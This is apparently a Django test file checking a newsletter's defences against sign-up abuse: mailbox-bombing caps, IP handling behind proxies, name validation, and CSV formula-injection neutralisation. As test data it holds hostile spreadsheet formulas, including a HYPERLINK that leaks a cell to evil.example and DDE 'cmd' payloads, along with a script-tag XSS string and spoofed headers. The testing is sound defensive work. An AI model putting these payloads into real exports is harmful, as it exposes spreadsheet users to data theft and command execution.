"""Sign-up abuse (issue 12): mailbox bombing under other spellings, domain and global caps with the
dashboard warning, an office behind one NAT, IPv6 /64 grouping, the client IP behind proxies,
and the preferences form's and confirmation mail's handling of free-text names."""

import csv
import io

import pytest

from django.contrib.auth import get_user_model
from django.core import mail

from newsletter.models import Subscriber
from newsletter.services.subscribers import canonical_mailbox
from tests.newsletter import subscriber_support
from tests.newsletter.subscriber_support import (
    SIGNUP_URL,
    CommittingClient,
    confirm_link,
    make_subscriber,
    preferences_path,
    signup_data,
)

subscriber_env = subscriber_support.subscriber_env  # autouse
client = subscriber_support.client

pytestmark = pytest.mark.django_db


def sign_up(email, ip="192.0.2.10", **headers):
    bot = CommittingClient(REMOTE_ADDR=ip, **headers)
    return bot.post(SIGNUP_URL, signup_data(email=email))


def mails_to_mailbox(mailbox):
    return [m for m in mail.outbox if any(canonical_mailbox(to) == mailbox for to in m.to)]


# --- 1. One mailbox, at most 3 confirmation mails a day, however it is spelled ---------------


def test_tags_and_case_do_not_give_a_mailbox_a_new_allowance(home_page):
    spellings = [
        "bomb.victim@kommun.se",
        "Bomb.Victim+1@kommun.se",
        "bomb.victim+2@KOMMUN.SE",
        "bomb.victim+3@kommun.se",
        "BOMB.VICTIM+spam@kommun.se",
        "bomb.victim+@kommun.se",
    ]
    statuses = [
        sign_up(email, ip=f"198.51.100.{n}").status_code for n, email in enumerate(spellings)
    ]
    assert statuses == [302, 302, 302, 429, 429, 429]
    assert len(mails_to_mailbox("bomb.victim@kommun.se")) == 3
    refused = sign_up("bomb.victim+x@kommun.se", ip="203.0.113.1")
    assert "redan skickat flera bekräftelsemejl" in refused.content.decode()


def test_canonical_mailbox():
    assert canonical_mailbox("Bomb.Victim+Tag@Kommun.SE") == "bomb.victim@kommun.se"
    assert canonical_mailbox("b.o.m.b+x@GoogleMail.com") == "bomb@gmail.com"
    assert canonical_mailbox("anna@kommun.se") == "anna@kommun.se"


@pytest.mark.parametrize(
    ("email", "message"),
    [
        ('"\\bomb.victim"@kommun.se', "utan citattecken"),
        ('"bomb.victim"@kommun.se', "utan citattecken"),
        ('"bomb victim"@kommun.se', "utan citattecken"),
        ("bomb\\.victim@kommun.se", "utan citattecken"),
        ("anna@localhost", "inte en IP-adress"),
        ("anna@LOCALHOST.", "inte en IP-adress"),
        ("anna@mail.localhost", "inte en IP-adress"),
        ("anna@[127.0.0.1]", "inte en IP-adress"),
        ("anna@[IPv6:2001:db8::1]", "inte en IP-adress"),
        ("anna@192.0.2.1", "inte en IP-adress"),
        ("anna@kommun.se\u202e", "osynliga styrtecken"),
        ("\u202eanna@kommun.se", "osynliga styrtecken"),
        ("anna@kom\u2067mun.se", "osynliga styrtecken"),
        ("an\u200bna@kommun.se", "osynliga styrtecken"),
        ("anna\u200e@kommun.se", "osynliga styrtecken"),
    ],
)
def test_quoted_local_addresses_ip_literals_and_bidi_controls_are_refused(
    client, home_page, email, message
):
    response = client.post(SIGNUP_URL, signup_data(email=email))
    assert response.status_code == 400
    assert message in response.content.decode()
    assert not Subscriber.objects.exists()
    assert not mail.outbox


def admin_client():
    user = get_user_model().objects.create_superuser("admin", "admin@smakom.se", "pw")
    admin = CommittingClient()
    admin.force_login(user)
    return admin


def test_domain_cap_refuses_and_warns_on_the_dashboard(home_page, settings):
    settings.NEWSLETTER_RATE_LIMITS = {"signup_domain": (3, 3600)}
    admin = admin_client()
    assert 'data-limit="signup_domain"' not in admin.get("/admin/").content.decode()
    for n in range(3):
        assert sign_up(f"person{n}@victim-kommun.se", ip=f"198.51.100.{n}").status_code == 302
    refused = sign_up("person9@Victim-Kommun.se", ip="203.0.113.9")
    assert refused.status_code == 429
    assert "ovanligt många anmälningar för adresser på den här domänen" in refused.content.decode()
    assert not Subscriber.objects.filter(email="person9@victim-kommun.se").exists()
    # Other domains are not affected.
    assert sign_up("anna@kommun.se", ip="203.0.113.10").status_code == 302
    dashboard = admin.get("/admin/").content.decode()
    assert 'data-limit="signup_domain"' in dashboard
    assert "Gränsen för bekräftelsemejl till en domän nåddes (victim-kommun.se, 3 i timmen)" in (
        dashboard
    )
    assert 'data-limit="signup_global"' not in dashboard


def test_global_cap_refuses_and_warns_on_the_dashboard(home_page, settings):
    settings.NEWSLETTER_RATE_LIMITS = {"signup_global": (2, 3600)}
    for n in range(2):
        assert sign_up(f"p{n}@domain{n}.se", ip=f"198.51.100.{n}").status_code == 302
    refused = sign_up("p3@domain3.se", ip="203.0.113.3")
    assert refused.status_code == 429
    assert "ovanligt många anmälningar just nu" in refused.content.decode()
    assert len(mail.outbox) == 2
    dashboard = admin_client().get("/admin/").content.decode()
    assert 'data-limit="signup_global"' in dashboard
    assert "Gränsen för bekräftelsemejl totalt (2 i timmen) nåddes" in dashboard


# --- 2. An office behind one NAT; IPv6 by /64 ----------------------------------------------


def test_fifty_colleagues_behind_one_address_can_all_sign_up_within_an_hour(home_page):
    office = CommittingClient(REMOTE_ADDR="192.0.2.77")
    statuses = [
        office.post(SIGNUP_URL, signup_data(email=f"kollega{n}@lerdalshojden.se")).status_code
        for n in range(50)
    ]
    assert statuses == [302] * 50
    assert Subscriber.objects.count() == 50
    assert len(mail.outbox) == 50


def test_ipv6_clients_are_counted_per_64(home_page, settings):
    settings.NEWSLETTER_RATE_LIMITS = {"signup_ip": (2, 3600)}
    assert sign_up("a1@kommun.se", ip="2001:db8:1:2::1").status_code == 302
    assert sign_up("a2@kommun.se", ip="2001:db8:1:2:ffff:ffff:ffff:ffff").status_code == 302
    # Another address in the same /64 (a client picks a new one per request) is the same client.
    blocked = sign_up("a3@kommun.se", ip="2001:db8:1:2:abcd::42")
    assert blocked.status_code == 429
    assert "För många anmälningar från ditt nätverk" in blocked.content.decode()
    # The neighbouring /64 is somebody else.
    assert sign_up("a4@kommun.se", ip="2001:db8:1:3::1").status_code == 302


# --- 3. The client IP behind proxies -------------------------------------------------------


@pytest.mark.parametrize(
    ("proxies", "forwarded", "expected"),
    [
        (0, "203.0.113.9, 198.51.100.7", "10.0.0.1"),  # no proxy: the header is the client's
        (1, "203.0.113.9, 198.51.100.7", "198.51.100.7"),
        (2, "203.0.113.9, 198.51.100.7", "203.0.113.9"),
        (2, "6.6.6.6, 203.0.113.9, 198.51.100.7", "203.0.113.9"),  # spoofed left part ignored
        (1, "2001:db8::5", "2001:db8::5"),
        (1, "[2001:db8::5]:443", "2001:db8::5"),
        (1, "198.51.100.7:51234", "198.51.100.7"),
        (3, "198.51.100.7", "198.51.100.7"),  # fewer entries than proxies: the left-most
    ],
)
def test_client_ip_is_the_nth_address_from_the_right(
    client, home_page, settings, proxies, forwarded, expected
):
    settings.TRUSTED_PROXY_COUNT = proxies
    proxied = CommittingClient(REMOTE_ADDR="10.0.0.1", HTTP_X_FORWARDED_FOR=forwarded)
    assert proxied.post(SIGNUP_URL, signup_data()).status_code == 302
    sub = Subscriber.objects.get()
    assert sub.signup_ip == expected
    [message] = mail.outbox
    assert proxied.post(confirm_link(message)).status_code == 200
    sub.refresh_from_db()
    assert sub.status == Subscriber.Status.SUBSCRIBED
    assert sub.confirm_ip == expected


@pytest.mark.parametrize(
    "forwarded",
    [
        "not-an-ip",
        "",
        " , ,",
        "1.2.3.4.5",
        "999.1.1.1",
        "<script>alert(1)</script>",
        "[2001:db8::1",
        "2001:db8::zz",
        "fe80::1%eth0" + "x" * 100,
        "1" * 5000,
        "198.51.100.7, not-an-ip",
    ],
)
def test_malformed_forwarded_for_never_gives_a_500(client, home_page, settings, forwarded):
    settings.TRUSTED_PROXY_COUNT = 1
    # How a proxy was configured before TRUSTED_PROXY_COUNT (the header's first entry, unchecked:
    # PostgreSQL refused "not-an-ip" as an address with a 500); no longer read.
    settings.NEWSLETTER_TRUSTED_PROXY_HEADER = "HTTP_X_FORWARDED_FOR"
    proxied = CommittingClient(REMOTE_ADDR="10.0.0.1", HTTP_X_FORWARDED_FOR=forwarded)
    response = proxied.post(SIGNUP_URL, signup_data())
    assert response.status_code == 302
    sub = Subscriber.objects.get()
    assert sub.signup_ip == "10.0.0.1"  # the proxy's own address: nothing better is known
    [message] = mail.outbox
    assert proxied.get(confirm_link(message)).status_code == 200
    assert proxied.post(confirm_link(message)).status_code == 200
    sub.refresh_from_db()
    assert sub.confirm_ip == "10.0.0.1"


def test_per_ip_limit_counts_the_client_behind_the_proxy_not_the_proxy(home_page, settings):
    settings.TRUSTED_PROXY_COUNT = 1
    settings.NEWSLETTER_RATE_LIMITS = {"signup_ip": (2, 3600)}

    def via_proxy(email, client_ip, spoof=""):
        forwarded = f"{spoof}, {client_ip}" if spoof else client_ip
        return sign_up(email, ip="10.0.0.1", HTTP_X_FORWARDED_FOR=forwarded).status_code

    assert via_proxy("a@kommun.se", "198.51.100.1") == 302
    assert via_proxy("b@kommun.se", "198.51.100.1", spoof="1.1.1.1") == 302
    # A new made-up address on the left does not make a new client.
    assert via_proxy("c@kommun.se", "198.51.100.1", spoof="2.2.2.2") == 429
    # Another visitor behind the same proxy is not blocked.
    assert via_proxy("d@kommun.se", "198.51.100.2") == 302


# --- 7. Free-text names: preferences form, confirmation mail -------------------------------


@pytest.mark.parametrize(
    ("fields", "message"),
    [
        ({"name": "Vinn pengar http://spam.example"}, "utan länkar"),
        ({"name": "Köp nu på www.spam.example"}, "utan länkar"),
        ({"name": "<b>Bo</b>"}, "utan länkar"),
        ({"name": "Bo\x07Berg"}, "utan länkar"),
        ({"name": "Bo\u202eBerg"}, "utan länkar"),
        ({"name": "mejla kop@spam.example"}, "utan länkar"),
        ({"organisation": "https://spam.example"}, "organisationen utan länkar"),
    ],
)
def test_preferences_form_validates_names_like_the_sign_up_form(client, home_page, fields, message):
    sub = make_subscriber(tags=["Nyhetsbrev"])
    data = {"action": "save", "name": "Bo Berg", "organisation": "", "interests": ["Nyhetsbrev"]}
    data.update(fields)
    response = client.post(preferences_path(sub), data)
    assert response.status_code == 400
    assert message in response.content.decode()
    sub.refresh_from_db()
    assert (sub.first_name, sub.last_name, sub.organisation) == ("Bo", "Berg", "")


def test_confirmation_mail_does_not_relay_the_typed_name(client, home_page):
    pitch = "Billiga klockor hos Klock AB ring 070 123 45 67"
    response = client.post(SIGNUP_URL, signup_data(email="stranger@kommun.se", name=pitch))
    assert response.status_code == 302
    [message] = mail.outbox
    [(html, _mimetype)] = message.alternatives
    for part in (message.subject, message.body, html):
        assert "Klock" not in part and "070" not in part
    assert message.body.startswith("Hej!")


# --- 7. CSV exports are safe to open in a spreadsheet --------------------------------------


HOSTILE_CELLS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Klicka")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_subscriber_csv_export_neutralises_formulas(home_page):
    for n, cell in enumerate(HOSTILE_CELLS):
        # Names reach us from Mailchimp's audience and imports too, not only through our forms.
        make_subscriber(
            email=f"p{n}@kommun.se", first_name=cell, last_name="Berg", organisation=cell
        )
    make_subscriber(email="bo@kommun.se", first_name="Bo", organisation="Tranemo kommun")
    response = admin_client().get("/admin/newsletter/subscribers/?export=csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(body)))
    cells = [cell for row in rows[1:] for cell in row]
    for cell in HOSTILE_CELLS:
        assert cell not in cells
        assert "'" + cell in cells
    assert "Tranemo kommun" in cells and "Bo" in cells  # ordinary text untouched
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_municipality_csv_export_neutralises_formulas(home_page):
    from home.models import Municipality

    Municipality.objects.create(name="=1+1", slug="formel", county="jamtland")
    Municipality.objects.create(name="Berg", slug="berg", county="jamtland")
    response = admin_client().get("/admin/snippets/home/municipality/?export=csv")
    body = b"".join(response.streaming_content).decode()
    names = [row[0] for row in csv.reader(io.StringIO(body))][1:]
    assert names == ["'=1+1", "Berg"]
